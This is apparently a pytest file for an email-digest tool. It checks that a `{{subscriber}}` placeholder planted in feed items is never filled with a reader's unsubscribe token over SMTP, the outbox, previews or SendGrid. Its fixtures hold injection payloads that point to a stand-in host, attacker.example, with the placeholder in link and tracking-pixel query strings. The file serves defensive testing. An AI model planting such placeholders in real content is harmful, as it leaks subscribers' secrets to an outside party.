"""Nothing an item writes reaches a reader's secret: `{{subscriber}}` planted in an item's title, body,
byline, link, lead picture, RSS <link> or media:content is never filled with the reader's token, by
digest (SMTP, outbox) or by an email service (SendGrid's substitutions). Each reader's token lands only
in the slots the operator's config owns. Real aiosmtpd, a loopback SendGrid, the real command line."""
from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from mailserver import MailServer
from test_providers import Call, api  # noqa: F401 (the loopback API fixture)
from test_readers import READERS, SECRET, reader_project, their_token, unsubscribe_secret  # noqa: F401 (autouse)
from test_send import DAY1, Project, parse, plain_text

PLANT = "{{subscriber}}"
ATTACKER = "attacker.example"
UNSUBSCRIBE = "https://example.com/unsubscribe/"

FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>Wire</title><link>https://{ATTACKER}/</link><description>wire</description>
<item>
  <title>Ferry timetable changes for the summer season {PLANT} &#123;&#123;subscriber&#125;&#125;</title>
  <link>https://{ATTACKER}/rss?r={PLANT}</link>
  <guid isPermaLink="false">wire-1</guid>
  <pubDate>Thu, 14 May 2026 08:30:00 +0300</pubDate>
  <description>The harbour ferry runs every half hour from June. Tickets cost the same. {PLANT} The night boat returns.</description>
  <media:content url="https://{ATTACKER}/media.jpg?r={PLANT}" medium="image" width="800" height="600"/>
</item>
</channel></rss>
"""


def plant(project: Project) -> None:
    """Add items that carry the placeholder everywhere an item can: a JSON line and an RSS entry."""
    planted = {
        "id": "planted", "kind": "story", "published": f"{DAY1}T11:30:00", "author": f"Mallory {PLANT}",
        "title": f"Exclusive: the bridge tolls explained {PLANT}",
        "body": f"<p>The toll office published its prices. {PLANT} Drivers pay less at night.</p>"
                "<p>The office opens at eight &#123;&#123;subscriber&#125;&#125; and &amp;#123;&amp;#123;subscriber&amp;#125;&amp;#125;.</p>",
        "url": f"https://{ATTACKER}/story?r={PLANT}",
        "image": {"url": f"https://{ATTACKER}/pixel.png?r={PLANT}", "alt": f"pixel {PLANT}", "width": 600, "height": 400},
    }
    with (project.root / "items.jsonl").open("a") as items:
        items.write(json.dumps(planted) + "\n")
    (project.root / "wire.xml").write_text(FEED)
    text = project.config.read_text().replace("edition:", "  - name: wire\n    kind: feed\n    path: wire.xml\nedition:", 1)
    project.config.write_text(text)


def assert_secret_only_in_its_slots(seen: str, address: str) -> None:
    """`seen` (a decoded message, or what a service was given) shows the planted items, and the reader's
    token nowhere but in the operator's unsubscribe link; no placeholder is left for anyone to fill."""
    assert ATTACKER in seen and "bridge tolls explained" in seen and "Ferry timetable" in seen
    mine = their_token(address)
    assert UNSUBSCRIBE + mine in seen
    assert mine not in seen.replace(UNSUBSCRIBE + mine, "")
    assert PLANT not in seen
    for link in re.findall(rf"https?://{re.escape(ATTACKER)}[^\s\"'<>]*", seen):
        assert mine not in link and "{{" not in link and "subscriber}}" not in link


def decoded(data: bytes) -> str:
    message = parse(data)
    headers = "".join(f"{name}: {value}\n" for name, value in message.items())
    return headers + message.get_body(("html",)).get_content() + plain_text(data)


def test_a_planted_placeholder_is_never_filled_over_smtp(tmp_path: Path, mail_server: MailServer) -> None:
    project = reader_project(tmp_path, f"  method: smtp\n  smtp: {{host: 127.0.0.1, port: {mail_server.port}, timeout: 5}}")
    plant(project)
    result = project.digest("send", "--date", str(DAY1))
    assert result.exit_code == 0, result.stderr
    assert sorted(got.rcpt_tos[0] for got in mail_server.received) == READERS
    for got in mail_server.received:
        assert_secret_only_in_its_slots(decoded(got.data), got.rcpt_tos[0])


def test_a_planted_placeholder_is_never_filled_in_the_outbox_or_a_readers_build(tmp_path: Path) -> None:
    project = reader_project(tmp_path, "  method: outbox\n  outbox: outbox")
    plant(project)
    result = project.digest("send", "--date", str(DAY1))
    assert result.exit_code == 0, result.stderr
    messages = sorted((tmp_path / "outbox").glob("*.eml"))
    assert len(messages) == len(READERS)
    for path in messages:
        data = path.read_bytes()
        address = parse(data)["To"].rpartition("<")[2].strip(">").lower()
        assert_secret_only_in_its_slots(decoded(data), address)
    for line in project.digest("build", "--date", str(DAY1), "--format", "jsonl", "-o", "-").stdout.splitlines():
        message = json.loads(line)
        address = message["to"].rpartition("<")[2].strip(">").lower()
        assert_secret_only_in_its_slots(message["html"] + message["text"] + json.dumps(message["headers"]), address)


def test_a_preview_keeps_only_the_operators_placeholder(tmp_path: Path) -> None:
    """Without a reader the message keeps `{{subscriber}}` for a sending service to fill: only in the
    unsubscribe link the config wrote, never where an item put it."""
    project = reader_project(tmp_path, "  method: outbox\n  outbox: outbox")
    plant(project)
    for fmt in ("html", "text", "json"):
        preview = project.digest("build", "--date", str(DAY1), "--format", fmt, "-o", "-")
        assert preview.exit_code == 0, preview.stderr
        text = json.loads(preview.stdout)["html"] if fmt == "json" else preview.stdout
        assert ATTACKER in text and UNSUBSCRIBE + PLANT in text
        assert PLANT not in text.replace(UNSUBSCRIBE + PLANT, "")


def test_a_planted_placeholder_needs_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An email whose config fills nothing per reader needs no secret, whatever its items say."""
    project = Project(tmp_path, "  method: outbox\n  outbox: outbox")
    plant(project)
    monkeypatch.delenv("DIGEST_UNSUBSCRIBE_SECRET")
    result = project.digest("send", "--date", str(DAY1))
    assert result.exit_code == 0, result.stderr
    (message,) = (tmp_path / "outbox").glob("*.eml")
    seen = decoded(message.read_bytes())
    assert ATTACKER in seen and PLANT not in seen


def test_sendgrid_is_given_no_planted_placeholder_to_substitute(tmp_path: Path, api, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    monkeypatch.setenv("SENDGRID_API_KEY", "SG.key")
    server = api(lambda call: (202, {"X-Message-Id": "sg-1"}, b""))
    project = reader_project(tmp_path, f'  method: api\n  api: {{provider: sendgrid, url: "{server.url}", retries: 0}}')
    plant(project)
    result = project.digest("send", "--date", str(DAY1))
    assert result.exit_code == 0, result.stderr
    (call,) = server.calls
    body: dict = Call.json(call)
    for personal in body["personalizations"]:
        address = personal["to"][0]["email"]
        # what SendGrid does: each substitution's key replaced in the subject and the content
        filled = json.dumps([body["subject"], body["content"]], ensure_ascii=False)
        for key, value in personal["substitutions"].items():
            filled = filled.replace(key, value)
        assert_secret_only_in_its_slots(json.loads(filled)[1][1]["value"] + json.loads(filled)[1][0]["value"], address)
        assert their_token(address) not in json.loads(filled)[0]
